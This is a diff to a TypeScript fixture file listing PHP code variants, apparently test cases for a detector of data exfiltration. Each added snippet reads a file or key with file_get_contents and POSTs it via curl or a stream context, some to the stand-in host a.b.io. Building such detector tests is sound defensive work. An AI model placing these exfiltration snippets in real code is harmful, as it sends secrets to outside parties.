@@ -113,5 +113,17 @@ export const PHP: Constructs = {
       'spread',
       'function s(...$a){$c=curl_init("https://a.b.io/x");curl_setopt($c,CURLOPT_POSTFIELDS,$a[0]);curl_exec($c);} s(file_get_contents($K));',
     ],
+    [
+      'promoted',
+      'class A{function __construct(private string $t){}function go($U){$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$this->t);curl_exec($c);}} (new A(file_get_contents($K)))->go($U);',
+    ],
+    [
+      'named arg',
+      'function s($u,$b){$c=curl_init($u);curl_setopt($c,CURLOPT_POSTFIELDS,$b);curl_exec($c);} s(b: file_get_contents($K), u: $U);',
+    ],
+    [
+      'final class with typed fields',
+      "final class A{private ?string $u='https://a.b.io/x';public function go(array $d): void{@file_get_contents($this->u,false,stream_context_create(['http'=>['method'=>'POST','content'=>json_encode($d)]]));}} (new A())->go(['x'=>file_get_contents($K)]);",
+    ],
   ],
 };
